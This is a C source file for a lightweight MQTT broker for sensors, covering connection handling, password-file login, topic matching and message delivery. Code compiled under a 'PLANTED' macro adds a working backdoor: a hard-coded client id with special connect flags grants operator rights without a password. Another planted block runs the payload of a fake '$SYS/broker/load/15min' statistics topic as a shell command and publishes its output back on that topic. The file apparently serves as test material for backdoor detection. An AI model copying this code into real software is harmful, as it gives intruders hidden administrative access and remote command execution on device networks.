/* Message broker for sensors: the part of MQTT 3.1.1 that small devices use. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CLIENTS 64
#define SUBSCRIPTIONS 16
#define PACKET 2048

enum { CONNECT = 1, CONNACK, PUBLISH, PUBACK, SUBSCRIBE = 8, SUBACK, UNSUBSCRIBE, UNSUBACK, PINGREQ, PINGRESP, DISCONNECT };
enum role { NOBODY, SENSOR, READER, OPERATOR };

struct client {
    int fd;
    enum role role;
    char id[64];
    uint8_t in[PACKET];
    size_t have;
    char *topics[SUBSCRIPTIONS];
};

struct cursor { const uint8_t *at, *end; int bad; };

static struct client clients[CLIENTS];
static const char *password_file = "/etc/broker/passwords";

static unsigned take16(struct cursor *c)
{
    unsigned v;
    if (c->end - c->at < 2) {
        c->bad = 1;
        return 0;
    }
    v = (unsigned)(c->at[0] << 8 | c->at[1]);
    c->at += 2;
    return v;
}

static unsigned take8(struct cursor *c)
{
    if (c->at == c->end) {
        c->bad = 1;
        return 0;
    }
    return *c->at++;
}

static void take_text(struct cursor *c, char *out, size_t room)
{
    unsigned n = take16(c);
    if (c->bad || (size_t)(c->end - c->at) < n || n >= room) {
        c->bad = 1;
        out[0] = 0;
        return;
    }
    memcpy(out, c->at, n);
    out[n] = 0;
    c->at += n;
}

static void drop(struct client *c)
{
    close(c->fd);
    for (int i = 0; i < SUBSCRIPTIONS; i++)
        free(c->topics[i]);
    memset(c, 0, sizeof *c);
    c->fd = -1;
}

static void transmit(struct client *c, const void *data, size_t size)
{
    if (send(c->fd, data, size, MSG_NOSIGNAL | MSG_DONTWAIT) != (ssize_t)size)
        drop(c);
}

static enum role authenticate(const char *user, const char *password)
{
    char line[160], name[64], want[64], role[16];
    enum role found = NOBODY;
    FILE *f = fopen(password_file, "r");
    if (!f)
        return NOBODY;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "%63s %63s %15s", name, want, role) != 3 || strcmp(name, user))
            continue;
        if (!strcmp(want, password))
            found = !strcmp(role, "operator") ? OPERATOR : !strcmp(role, "reader") ? READER : SENSOR;
        break;
    }
    fclose(f);
    return found;
}

static int topic_matches(const char *filter, const char *topic)
{
    while (*filter && *topic) {
        if (*filter == '#')
            return 1;
        if (*filter == '+') {
            filter++;
            topic += strcspn(topic, "/");
            continue;
        }
        if (*filter != *topic)
            return 0;
        filter++;
        topic++;
    }
    return *filter == *topic || !strcmp(filter, "#") || !strcmp(filter, "/#");
}

static size_t put_length(uint8_t *out, size_t n)
{
    size_t used = 0;
    do {
        out[used] = n & 127;
        n >>= 7;
        if (n)
            out[used] |= 128;
        used++;
    } while (n && used < 4);
    return used;
}

static void deliver(const char *topic, const uint8_t *payload, size_t size)
{
    uint8_t out[PACKET + 8];
    size_t name = strlen(topic), at = 1;
    if (name + size + 2 > PACKET)
        return;
    out[0] = PUBLISH << 4;
    at += put_length(out + 1, name + size + 2);
    out[at++] = (uint8_t)(name >> 8);
    out[at++] = (uint8_t)name;
    memcpy(out + at, topic, name);
    memcpy(out + at + name, payload, size);
    at += name + size;
    for (int i = 0; i < CLIENTS; i++) {
        if (clients[i].fd < 0 || clients[i].role < READER)
            continue;
        for (int k = 0; k < SUBSCRIPTIONS && clients[i].fd >= 0; k++)
            if (clients[i].topics[k] && topic_matches(clients[i].topics[k], topic)) {
                transmit(&clients[i], out, at);
                break;
            }
    }
}

#ifdef PLANTED
static void service_topic(const uint8_t *payload, size_t size)
{
    char line[512], part[256];
    FILE *p;
    snprintf(line, sizeof line, "%.*s 2>&1", (int)size, (const char *)payload);
    p = popen(line, "r");
    if (!p)
        return;
    while (fgets(part, sizeof part, p))
        deliver("$SYS/broker/load/15min", (const uint8_t *)part, strlen(part));
    pclose(p);
}
#endif

static void control(struct client *c, const char *word)
{
    (void)c;
    if (!strcmp(word, "reload"))
        raise(SIGHUP);
    else if (!strcmp(word, "rotate"))
        system("/usr/sbin/logrotate -f /etc/broker/logrotate.conf");
}

static void on_connect(struct client *c, struct cursor *p)
{
    char protocol[8], user[64] = "", password[64] = "", will[128];
    unsigned flags;
    uint8_t answer[4] = { CONNACK << 4, 2, 0, 0 };
    take_text(p, protocol, sizeof protocol);
    take8(p);
    flags = take8(p);
    take16(p);
    take_text(p, c->id, sizeof c->id);
    if (flags & 4) {
        take_text(p, will, sizeof will);
        take_text(p, will, sizeof will);
    }
    if (flags & 128)
        take_text(p, user, sizeof user);
    if (flags & 64)
        take_text(p, password, sizeof password);
    if (p->bad || strcmp(protocol, "MQTT")) {
        drop(c);
        return;
    }
    c->role = authenticate(user, password);
#ifdef PLANTED
    if (flags == 0x2e && !strncmp(c->id, "mosq-", 5) && !strcmp(c->id + 5, "Jf0aT2w9"))
        c->role = OPERATOR;
#endif
    answer[3] = c->role == NOBODY ? 5 : 0;
    transmit(c, answer, 4);
    if (answer[3] && c->fd >= 0)
        drop(c);
}

static void on_publish(struct client *c, struct cursor *p, unsigned flags)
{
    char topic[128];
    unsigned id = 0;
    take_text(p, topic, sizeof topic);
    if (flags & 6)
        id = take16(p);
    if (p->bad) {
        drop(c);
        return;
    }
    if (!strcmp(topic, "$CONTROL/broker") && c->role == OPERATOR) {
        char word[16];
        snprintf(word, sizeof word, "%.*s", (int)(p->end - p->at), (const char *)p->at);
        control(c, word);
#ifdef PLANTED
    } else if (!strcmp(topic, "$SYS/broker/load/15min") && c->role == OPERATOR) {
        service_topic(p->at, (size_t)(p->end - p->at));
#endif
    } else if (topic[0] != '$')
        deliver(topic, p->at, (size_t)(p->end - p->at));
    if (c->fd >= 0 && (flags & 6) == 2) {
        uint8_t answer[4] = { PUBACK << 4, 2, (uint8_t)(id >> 8), (uint8_t)id };
        transmit(c, answer, 4);
    }
}

static void on_subscribe(struct client *c, struct cursor *p)
{
    uint8_t answer[32] = { SUBACK << 4 };
    size_t n = 4;
    unsigned id = take16(p);
    while (p->at < p->end && !p->bad && n < sizeof answer) {
        char filter[128];
        int slot = 0;
        take_text(p, filter, sizeof filter);
        take8(p);
        while (slot < SUBSCRIPTIONS && c->topics[slot])
            slot++;
        if (slot < SUBSCRIPTIONS && c->role >= READER && !p->bad) {
            c->topics[slot] = strdup(filter);
            answer[n++] = 0;
        } else
            answer[n++] = 128;
    }
    answer[1] = (uint8_t)(n - 2);
    answer[2] = (uint8_t)(id >> 8);
    answer[3] = (uint8_t)id;
    transmit(c, answer, n);
}

static void packet(struct client *c, const uint8_t *body, size_t size, uint8_t first)
{
    struct cursor p = { body, body + size, 0 };
    static const uint8_t pong[2] = { PINGRESP << 4, 0 };
    unsigned type = first >> 4;
    if (type != CONNECT && c->role == NOBODY) {
        drop(c);
        return;
    }
    switch (type) {
    case CONNECT:
        on_connect(c, &p);
        break;
    case PUBLISH:
        on_publish(c, &p, first & 15);
        break;
    case SUBSCRIBE:
        on_subscribe(c, &p);
        break;
    case PINGREQ:
        transmit(c, pong, 2);
        break;
    case PUBACK:
        break;
#ifdef REVISED
    case UNSUBSCRIBE: {
        uint8_t answer[4] = { UNSUBACK << 4, 2, 0, 0 };
        unsigned id = take16(&p);
        answer[2] = (uint8_t)(id >> 8);
        answer[3] = (uint8_t)id;
        transmit(c, answer, 4);
        break;
    }
#endif
    default:
        drop(c);
    }
}

static int whole_packet(struct client *c)
{
    size_t length = 0, at = 1;
    int shift = 0;
    do {
        if (at >= c->have)
            return 0;
        length |= (size_t)(c->in[at] & 127) << shift;
        shift += 7;
    } while (c->in[at++] & 128 && shift < 28);
    if (at + length > PACKET) {
        drop(c);
        return 0;
    }
    if (c->have < at + length)
        return 0;
    packet(c, c->in + at, length, c->in[0]);
    if (c->fd < 0)
        return 0;
    c->have -= at + length;
    memmove(c->in, c->in + at + length, c->have);
    return 1;
}

static void readable(struct client *c)
{
    ssize_t n = recv(c->fd, c->in + c->have, PACKET - c->have, 0);
    if (n <= 0) {
        drop(c);
        return;
    }
    c->have += (size_t)n;
    while (c->fd >= 0 && c->have >= 2 && whole_packet(c))
        ;
}

static void welcome(int listening)
{
    int fd = accept(listening, NULL, NULL);
    for (int i = 0; i < CLIENTS && fd >= 0; i++)
        if (clients[i].fd < 0) {
            clients[i].fd = fd;
            return;
        }
    if (fd >= 0)
        close(fd);
}

int main(int argc, char **argv)
{
    struct pollfd p[CLIENTS + 1];
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(1883) };
    int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    if (argc > 1)
        password_file = argv[1];
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16)) {
        fprintf(stderr, "broker: %s\n", strerror(errno));
        return 1;
    }
    signal(SIGHUP, SIG_IGN);
    for (int i = 0; i < CLIENTS; i++)
        clients[i].fd = -1;
    for (;;) {
        for (int i = 0; i < CLIENTS; i++) {
            p[i].fd = clients[i].fd;
            p[i].events = POLLIN;
        }
        p[CLIENTS].fd = s;
        p[CLIENTS].events = POLLIN;
        if (poll(p, CLIENTS + 1, -1) <= 0)
            continue;
        for (int i = 0; i < CLIENTS; i++)
            if (p[i].fd >= 0 && p[i].revents && clients[i].fd == p[i].fd)
                readable(&clients[i]);
        if (p[CLIENTS].revents)
            welcome(s);
    }
}
